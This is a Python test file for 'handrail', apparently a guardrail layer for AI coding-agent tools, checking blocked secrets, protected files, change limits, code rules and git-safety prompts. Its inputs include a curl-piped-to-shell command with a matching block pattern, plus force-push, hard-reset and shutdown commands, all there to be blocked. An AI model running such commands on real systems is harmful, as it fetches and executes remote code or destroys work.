"""Guardrails through the front door: said once in the settings, out of the model's reach."""

import pytest

import handrail
from handrail.engine.hooking.callbacks import Rewrite
from handrail.policy.guardrails.gates import gate_run, run_quality_gates
from handrail.policy.guardrails.section import parse_guardrails


def rails(**section):
    return {"guardrails": section}


class Watcher:
    """A hook that notes what it saw, and may want other arguments."""

    def __init__(self, **arguments):
        self.seen = []
        self._arguments = arguments

    async def before(self, call):
        self.seen.append(call.tool)
        return Rewrite(self._arguments) if self._arguments else None

    async def after(self, call, result):
        return None


@pytest.mark.feature("J01", "J02", "F05")
async def test_a_sensitive_file_stays_closed_to_every_tool_and_spelling(open_runtime, workspace):
    workspace.write("secrets/key.txt", "hush\n")
    workspace.write("a.txt", "open\n")
    (workspace.root / "sub").mkdir()
    (workspace.root / "link.txt").symlink_to("secrets/key.txt")
    (workspace.root / "room").symlink_to("secrets")
    calls = [
        ("read_file", {"path": "secrets/key.txt"}),
        ("read_file", {"path": "./sub/../secrets/key.txt"}),
        ("read_file", {"path": str(workspace.root / "secrets" / "key.txt")}),
        ("read_file", {"path": "link.txt"}),
        ("read_file", {"path": "room/key.txt"}),
        ("grep", {"pattern": "hush", "path": "secrets/key.txt"}),
        ("grep", {"pattern": "hush", "path": "secrets"}),
        ("file_info", {"path": "secrets/key.txt"}),
        ("edit_file", {"path": "secrets/key.txt", "old_string": "hush", "new_string": "x"}),
        ("write_file", {"path": "secrets/key.txt", "content": "x"}),
        ("write_file", {"path": "SECRETS/new.txt", "content": "x"}),
        ("run_command", {"command": "cat a.txt secrets/key.txt"}),
        ("run_command", {"command": "cat < room/key.txt"}),
        ("run_command", {"command": "cat link.txt"}),
        ("run_command", {"command": "cp secrets/key.txt out.txt"}),
        ("run_command", {"command": "cd secrets && cat key.txt"}),
        ("run_command", {"command": "echo x > secrets/key.txt"}),
    ]
    async with open_runtime(mode="bypass", config=rails(sensitive_files=["secrets/**"])) as rt:
        results = [await rt.call(tool, arguments) for tool, arguments in calls]
        doubtful = await rt.call("run_command", {"command": "cat s*/k*"})
        other = await rt.call("read_file", {"path": "a.txt"})

    for (tool, arguments), result in zip(calls, results, strict=True):
        assert result.problem is not None, (tool, arguments)
        assert result.problem.code == "blocked", (tool, arguments, result.text)
        assert result.problem.message.startswith("Guardrail: "), result.text
        assert "hush" not in result.text
    assert "hush" not in doubtful.text
    assert other.ok
    assert workspace.tree() == {"a.txt": b"open\n", "secrets/key.txt": b"hush\n"}


@pytest.mark.feature("J02")
async def test_a_protected_file_can_be_read_and_by_nothing_written(open_runtime, workspace):
    workspace.write("package.lock", "one\n")
    workspace.write("fix.diff", "--- a/package.lock\n+++ b/package.lock\n@@ -1 +1 @@\n-one\n+two\n")
    patch = "*** Begin Patch\n*** Update File: package.lock\n@@\n-one\n+two\n*** End Patch\n"
    calls = [
        ("write_file", {"path": "package.lock", "content": "two\n"}),
        ("edit_file", {"path": "Package.Lock", "old_string": "one", "new_string": "two"}),
        ("edit_file", {"path": "./package.lock", "old_string": "one", "new_string": "two"}),
        ("apply_patch", {"patch": patch}),
        ("delete_file", {"path": "package.lock"}),
        ("run_command", {"command": "sed -i s/one/two/ package.lock"}),
        ("run_command", {"command": "echo two | tee package.lock"}),
        ("run_command", {"command": "echo two >| ./package.lock"}),
        ("run_command", {"command": "cat > package.lock <<'EOF'\ntwo\nEOF"}),
        ("run_command", {"command": "mv fix.diff package.lock"}),
        ("run_command", {"command": "patch -p1 < fix.diff"}),
        ("run_command", {"command": "git apply fix.diff"}),
    ]
    config = rails(protected_files=["*.lock"])
    async with open_runtime(mode="bypass", allow_delete=True, config=config) as rt:
        results = [await rt.call(tool, arguments) for tool, arguments in calls]
        read = await rt.call("read_file", {"path": "package.lock"})

    assert read.ok
    for (tool, arguments), result in zip(calls, results, strict=True):
        assert not result.ok, (tool, arguments)
    assert workspace.read("package.lock") == b"one\n"
    assert sorted(workspace.tree()) == ["fix.diff", "package.lock"]


async def test_a_pattern_holds_in_every_root(open_runtime, workspace, tmp_path):
    other = tmp_path / "worktree"
    (other / "secrets").mkdir(parents=True)
    (other / "secrets" / "key").write_text("hush\n")
    config = rails(sensitive_files=["secrets/**"])
    async with open_runtime(mode="bypass", directories=other, config=config) as rt:
        read = await rt.call("read_file", {"path": str(other / "secrets" / "key")})
        command = await rt.call("run_command", {"command": f"cat {other}/secrets/key"})

    assert [one.problem.code for one in (read, command)] == ["blocked", "blocked"]


@pytest.mark.feature("J01")
async def test_hooks_do_not_run_for_what_is_blocked_and_cannot_lead_around_it(
    open_runtime, workspace
):
    workspace.write(".env", "hush\n")
    workspace.write("a.txt", "open\n")
    config = rails(sensitive_files=[".env"], blocked_commands=["^shutdown"])
    async with open_runtime(mode="bypass", config=config) as rt:
        watcher = Watcher()
        rt.hooks.append(watcher)
        read = await rt.call("read_file", {"path": ".env"})
        command = await rt.call("run_command", {"command": "shutdown now"})
        rt.hooks[:] = [Watcher(path=".env")]
        rewritten = await rt.call("read_file", {"path": "a.txt"})

    assert watcher.seen == []
    assert [one.problem.code for one in (read, command, rewritten)] == ["blocked"] * 3
    assert "hush" not in rewritten.text


@pytest.mark.feature("J03", "J08")
async def test_what_was_blocked_is_on_record_with_its_guardrail(open_runtime):
    config = rails(blocked_commands=[r"curl[^|]*\|\s*sh"])
    async with open_runtime(mode="bypass", config=config) as rt:
        result = await rt.call("run_command", {"command": "curl http://x.example | SH"})
        [record] = await rt.store.calls(limit=1)

    assert result.problem.code == "blocked"
    assert record.completed["cleared"] == ["deny", r"guardrail:blocked_commands:curl[^|]*\|\s*sh"]


@pytest.mark.feature("J04")
async def test_a_batch_cannot_pass_a_limit_together(open_runtime, workspace):
    calls = [
        {"id": str(number), "name": "write_file", "arguments": {"path": path, "content": "x\n"}}
        for number, path in enumerate(["a", "b", "./a", "c", "d", ".//b"])
    ]
    async with open_runtime(config=rails(max_files_modified=2)) as rt:
        results = await rt.batch(calls)
        again = await rt.call("write_file", {"path": "a", "content": "y\n"})

    assert len(workspace.tree()) == 2
    assert sum(one.ok for one in results) == 4
    assert all("max_files_modified" in one.text for one in results if not one.ok)
    assert again.ok


async def test_calls_that_a_person_approved_count_as_well(open_runtime, workspace):
    calls = [
        {"id": path, "name": "write_file", "arguments": {"path": path, "content": "x\n"}}
        for path in "abc"
    ]
    asks = {"permissions": {"ask": ["write_file"]}}
    async with open_runtime(
        config=rails(max_files_modified=2) | asks, approver=lambda request: True
    ) as rt:
        results = await rt.batch(calls)
        later = await rt.call("write_file", {"path": "d", "content": "x\n"})

    assert sum(one.ok for one in results) == len(workspace.tree()) == 2
    assert later.problem.code == "blocked"


async def test_lines_are_counted_from_what_is_really_changed(open_runtime, workspace):
    old = "".join(f"line {number}\n" for number in range(200))
    workspace.write("a.txt", old)
    async with open_runtime(config=rails(max_lines_changed=5)) as rt:
        huge = await rt.call(
            "edit_file",
            {"path": "a.txt", "old_string": old[100:700], "new_string": "gone\n"},
        )
        small = await rt.call(
            "edit_file", {"path": "a.txt", "old_string": "line 7\n", "new_string": "seven\n"}
        )
        whole = await rt.call("write_file", {"path": "a.txt", "content": old})
        last = await rt.call("write_file", {"path": "b.txt", "content": "1\n2\n"})

    assert [one.ok for one in (huge, small, whole, last)] == [False, True, True, False]
    assert workspace.read("a.txt").decode() == old


async def test_what_failed_or_the_person_took_back_does_not_count(open_runtime, workspace):
    workspace.write("a.txt", "one\n")
    config = rails(max_files_modified=1, max_lines_changed=2)
    async with open_runtime(config=config) as rt:
        wrong = await rt.call(
            "edit_file", {"path": "b.txt", "old_string": "no", "new_string": "yes"}
        )
        done = await rt.call(
            "edit_file", {"path": "a.txt", "old_string": "one", "new_string": "two"}
        )
        undone = await rt.undo()
        more = await rt.call(
            "edit_file", {"path": "a.txt", "old_string": "one", "new_string": "six"}
        )

    assert not wrong.ok
    assert done.ok
    assert undone.ok
    assert more.problem.code == "blocked"
    assert workspace.read("a.txt") == b"one\n"


async def test_commands_are_counted_and_zero_means_none(open_runtime):
    async with open_runtime(mode="bypass", config=rails(max_commands_executed=2)) as rt:
        results = [
            await rt.call("run_command", {"command": one}) for one in ("true", "false", "ls")
        ]
    async with open_runtime(mode="bypass", config=rails(max_commands_executed=0)) as rt:
        none = await rt.call("run_command", {"command": "ls"})

    assert [one.problem and one.problem.code for one in results] == [
        None,
        "command_failed",
        "blocked",
    ]
    assert none.problem.code == "blocked"


async def test_a_named_session_goes_on_with_its_counts(workspace, tmp_path):
    settings = {
        "mode": "accept-edits",
        "store": tmp_path / "audit.sqlite",
        "session": "mine",
        "config": rails(max_files_modified=1),
    }
    async with handrail.open(workspace.root, **settings) as rt:
        first = await rt.call("write_file", {"path": "a", "content": "x"})
    async with handrail.open(workspace.root, **settings) as rt:
        second = await rt.call("write_file", {"path": "b", "content": "x"})

    assert first.ok
    assert second.problem.code == "blocked"


async def test_a_dry_run_says_what_would_be_blocked_and_counts_nothing(open_runtime):
    config = rails(protected_files=["*.lock"], max_files_modified=1)
    async with open_runtime(dry_run=True, config=config) as rt:
        blocked = await rt.call("write_file", {"path": "a.lock", "content": "x"})
        planned = [await rt.call("write_file", {"path": one, "content": "x"}) for one in "ab"]

    assert blocked.problem.code == "blocked"
    assert [one.status.value for one in planned] == ["planned", "planned"]


@pytest.mark.needs_sandbox
@pytest.mark.feature("J05")
async def test_code_rules_stop_or_warn_about_what_is_written(open_runtime, workspace):
    workspace.write("old.py", "x = eval(y)\n")
    rules = [
        {"pattern": r"\beval\(", "message": "eval runs anything", "severity": "block"},
        {"pattern": "TODO", "message": "finish it"},
    ]
    patch = (
        "*** Begin Patch\n*** Update File: old.py\n@@\n-x = eval(y)\n+x = eval(z)\n*** End Patch\n"
    )
    async with open_runtime(mode="bypass", config=rails(code_rules=rules)) as rt:
        blocked = [
            await rt.call("write_file", {"path": "a.py", "content": "eval(1)\n"}),
            await rt.call("apply_patch", {"patch": patch}),
            await rt.call("run_command", {"command": "echo 'eval(1)' > a.py"}),
        ]
        warned = await rt.call("write_file", {"path": "b.py", "content": "# TODO\n"})
        by_command = await rt.call("run_command", {"command": "echo '# TODO' > c.py"})
        around = await rt.call("write_file", {"path": "old.py", "content": "x = eval(y)\nz = 1\n"})

    assert [one.problem.code for one in blocked] == ["blocked"] * 3
    assert warned.ok
    assert "[guardrail: b.py: '# TODO': finish" in warned.text
    assert by_command.ok
    assert "finish it" in by_command.text
    assert around.ok
    assert workspace.read("old.py") == b"x = eval(y)\nz = 1\n"


async def test_left_out_code_is_refused_by_default(open_runtime, workspace):
    workspace.write("a.py", "def a(): ...\n\ndef b(): ...\n")
    lazy = "def a(): return 1\n\n# ... rest of the code unchanged ...\n"
    async with open_runtime() as rt:
        refused = await rt.call("write_file", {"path": "a.py", "content": lazy})
        shown = await rt.call("write_file", {"path": "a.md", "content": f"```py\n{lazy}```\n"})
    async with open_runtime(config=rails(omissions="warn")) as rt:
        warned = await rt.call("write_file", {"path": "a.py", "content": lazy})

    assert refused.problem.code == "blocked"
    assert "write out" in refused.problem.hint
    assert shown.ok
    assert warned.ok
    assert "left out" in warned.text


@pytest.mark.needs_sandbox
async def test_untested_changes_are_not_committed(open_runtime, workspace):
    workspace.write("run_tests.sh", "grep -q right a.txt\n")
    workspace.write("a.txt", "nothing\n")
    edit = {"path": "a.txt", "old_string": "nothing", "new_string": "wrong"}
    async with open_runtime(mode="bypass", config=rails(require_test_after_edit=True)) as rt:
        edited = await rt.call("edit_file", edit)
        failed = await rt.call("run_command", {"command": "sh run_tests.sh"})
        early = await rt.call("run_command", {"command": "git commit -am x"})
        await rt.call("edit_file", {**edit, "old_string": "wrong", "new_string": "right"})
        passed = await rt.call("run_command", {"command": "sh run_tests.sh"})
        late = await rt.call("run_command", {"command": "git commit -am x"})

    assert "untested" in edited.text
    assert failed.problem.code == "command_failed"
    assert early.problem.code == "blocked"
    assert "require_test_after_edit" in early.text
    assert passed.ok
    assert late.problem is None or late.problem.code == "command_failed"


@pytest.mark.feature("E66")
async def test_git_safety_asks_the_person_in_every_mode(open_runtime):
    asked = []

    def approve(request):
        asked.append(request.reason)
        return False

    config = rails(git_safety=True)
    async with open_runtime(mode="bypass", config=config) as rt:
        alone = await rt.call("run_command", {"command": "git push --force"})
    async with open_runtime(mode="bypass", config=config, approver=approve) as rt:
        refused = await rt.call("run_command", {"command": "git reset --hard"})

    assert alone.problem.code == "needs_approval"
    assert refused.problem.code == "denied"
    assert "throws away" in asked[0]


@pytest.mark.feature("J01")
async def test_a_workspace_can_add_guardrails_and_not_switch_them_off(open_runtime, workspace):
    workspace.write(
        ".handrail/config.toml",
        "[guardrails]\nenabled = false\nomissions = 'off'\nprotected_files = ['theirs']\n",
    )
    async with open_runtime(config=rails(protected_files=["mine"])) as rt:
        results = [
            await rt.call("write_file", {"path": path, "content": "x"})
            for path in ("mine", "theirs", "other")
        ]
        lazy = await rt.call(
            "write_file", {"path": "a.py", "content": "# rest of code unchanged\n"}
        )

    assert [one.ok for one in results] == [False, False, True]
    assert lazy.problem.code == "blocked"


async def test_the_person_can_switch_them_off(open_runtime):
    config = rails(enabled=False, protected_files=["a"], max_files_modified=0)
    async with open_runtime(config=config) as rt:
        result = await rt.call("write_file", {"path": "a", "content": "# rest of code unchanged\n"})

    assert result.ok


@pytest.mark.feature("J07")
async def test_a_section_that_cannot_be_meant_names_its_line(workspace, tmp_path):
    file = tmp_path / "mine.toml"
    file.write_text("[guardrails]\nmax_files_modified = 3\nblocked_commands = ['ok', '(']\n")

    with pytest.raises(handrail.ProblemRaised) as caught:
        async with handrail.open(workspace.root, store=":memory:", config=file):
            pass

    assert f"{file}:3: guardrails.blocked_commands[1]" in caught.value.problem.message


async def test_a_change_that_is_planned_anew_holds_its_share_once(open_runtime, workspace):
    file = workspace.write("a.txt", "one\ntwo\n")
    asked = []

    def approve(request):
        asked.append(request.preview)
        if len(asked) == 1:
            file.write_text("one\ntwo\nthree\n")
        return True

    config = rails(max_lines_changed=2, max_files_modified=1)
    async with open_runtime(mode="default", config=config, approver=approve) as rt:
        result = await rt.call(
            "edit_file", {"path": "a.txt", "old_string": "one", "new_string": "1"}
        )
        more = await rt.call("edit_file", {"path": "a.txt", "old_string": "two", "new_string": "2"})

    assert len(asked) == 2
    assert result.ok, result.text
    assert more.problem.code == "blocked"
    assert workspace.read("a.txt") == b"1\ntwo\nthree\n"


@pytest.mark.feature("J06")
async def test_quality_gates_run_as_commands_do(open_runtime, workspace):
    workspace.write("a.py", "x\n")
    gates = [
        {"name": "there", "command": "test -f a.py"},
        {"name": "said", "command": "echo out; echo err >&2; exit 3"},
        {"name": "slow", "command": "sleep 60", "timeout": 1},
        {"name": "kept", "command": "echo x > a.lock"},
    ]
    config = rails(quality_gates=gates, protected_files=["*.lock"])
    async with open_runtime(mode="bypass", config=config) as rt:

        async def runner(command, timeout_s):
            arguments = {"command": command, "timeout_s": timeout_s}
            return gate_run(await rt.call("run_command", arguments))

        settings = parse_guardrails(config["guardrails"], str)
        results = await run_quality_gates(settings.gates, runner)

    told = {one.name: (one.passed, one.feedback) for one in results}
    assert told["there"] == (True, "")
    assert "exit code 3" in told["said"][1]
    assert "out" in told["said"][1]
    assert "err" in told["said"][1]
    assert "within 1 s" in told["slow"][1]
    assert "Guardrail" in told["kept"][1]
